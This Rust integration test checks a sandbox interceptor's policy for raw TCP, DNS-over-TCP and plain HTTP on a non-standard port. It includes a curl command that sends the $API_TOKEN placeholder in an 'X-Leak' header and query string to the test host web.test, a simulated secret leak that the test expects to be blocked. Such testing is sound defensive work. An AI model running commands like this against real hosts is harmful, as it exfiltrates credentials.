//! End to end: two policy gaps of raw TCP flows under interception (issue 9), closed. A
//! real VM with Debian's curl and python3 (`nettest`), its owner in a network namespace
//! with only a veth to the test host (`common/nethost.rs`), whose TCP echo server on :7
//! logs every byte it receives.
//!
//! - DNS over TCP: an address the owner's DNS answered over TCP for an allowed name opens
//!   raw TCP to it, as a UDP answer does (the guest here never resolves over UDP first).
//! - Plain HTTP on a port other than 80: a request line is served by the interceptor, so a
//!   placeholder toward a host its secret is not scoped to gets 403 and never reaches the
//!   echo server, and toward the secret's host it arrives substituted; other bytes on the
//!   same port are still spliced raw.

mod common;
#[path = "common/nethost.rs"]
mod nethost;

use std::time::Duration;

use base64::Engine;

use common::env;
use nethost::NetHost;

const SECRET: &str = "netx-s3cr3t-value";

/// Runs `script` in the guest and returns its output (asserting success when `want_ok`).
#[track_caller]
fn sh(id: &str, script: &str, want_ok: bool) -> String {
    nethost::guest_sh(env(), id, script, want_ok)
}

/// Resolves `web.test` over DNS-over-TCP only (to the guest's nameserver), then opens raw
/// TCP to the answered address's echo port.
const TCP_DNS_THEN_ECHO: &str = r#"
import socket, struct
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
q += b''.join(bytes([len(p)]) + p.encode() for p in 'web.test'.split('.')) + b'\x00'
q += struct.pack('>HH', 1, 1)
s = socket.create_connection((ns, 53), 10)
s.sendall(struct.pack('>H', len(q)) + q)
def take(n):
    b = b''
    while len(b) < n:
        c = s.recv(n - len(b))
        assert c, 'EOF'
        b += c
    return b
r = take(struct.unpack('>H', take(2))[0])
ancount = struct.unpack('>H', r[6:8])[0]
assert ancount >= 1, r
ip = socket.inet_ntoa(r[-4:])
print('answered', ip)
try:
    e = socket.create_connection((ip, 7), 10)
    e.sendall(b'tcp-dns-echo')
    print('echo', e.recv(64).decode())
except OSError as err:
    print('refused', err)
"#;

#[test]
fn dns_over_tcp_answers_and_plain_http_on_other_ports_follow_the_policy() {
    let e = env();
    let net = NetHost::new();
    let id = net.detached_intercepting(e, SECRET);
    let _guard = e.guard(&id);

    // First, before anything resolved web.test over UDP: the TCP answer opens its address.
    let out = sh(
        &id,
        &format!(
            "printf %s '{}' | base64 -d > /tmp/tcpdns.py && python3 /tmp/tcpdns.py",
            base64::engine::general_purpose::STANDARD.encode(TCP_DNS_THEN_ECHO)
        ),
        true,
    );
    assert!(
        out.contains(&format!("answered {}", nethost::HOST_IP)),
        "{out}"
    );
    assert!(out.contains("echo tcp-dns-echo"), "{out}");
    net.wait_log("tcp", Duration::from_secs(5), |r| {
        r["event"] == "close" && r["data"] == "tcp-dns-echo"
    });

    // Plain HTTP to the echo port of an allowed host, carrying the placeholder toward a host
    // it is not scoped to: the interceptor's 403, nothing arrives.
    let ph = sh(&id, "printf %s \"$API_TOKEN\"", true);
    assert!(ph.starts_with("SANDBOX_SECRET_"), "{ph}");
    let out = sh(
        &id,
        "curl -sS --max-time 30 -w '%{http_code}' -H \"X-Leak: $API_TOKEN\" \
         \"http://web.test:7/leak-plain?k=$API_TOKEN\"",
        true,
    );
    assert!(out.ends_with("403"), "{out}");
    assert!(out.contains("Blocked by policy"), "{out}");

    // Toward the secret's host on the same port: substituted in the header and the query
    // (the echo server is no HTTP server, so curl gets the interceptor's 502).
    let out = sh(
        &id,
        "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' \
         -H \"Authorization: Bearer $API_TOKEN\" \"http://api.test:7/sub?k=$API_TOKEN\"",
        true,
    );
    assert!(out.ends_with("502"), "{out}");
    let got = net.wait_log("tcp", Duration::from_secs(10), |r| {
        r["event"] == "close"
            && r["data"]
                .as_str()
                .is_some_and(|d| d.starts_with("GET /sub"))
    });
    let data = got["data"].as_str().unwrap_or_default();
    assert!(
        data.contains(&format!("Bearer {SECRET}")) && data.contains(&format!("k={SECRET}")),
        "{data}"
    );

    // Raw bytes on the same port are still spliced.
    let out = sh(
        &id,
        "python3 -c \"import socket; s=socket.create_connection(('web.test',7),10); \
         s.sendall(b'SET k v\\r\\n'); print('echo', s.recv(64))\"",
        true,
    );
    assert!(out.contains("echo b'SET k v\\r\\n'"), "{out}");

    let text = net.log_text("tcp");
    assert!(!text.contains("leak-plain"), "{text}");
    assert!(!text.contains(&ph), "placeholder arrived: {text}");
}
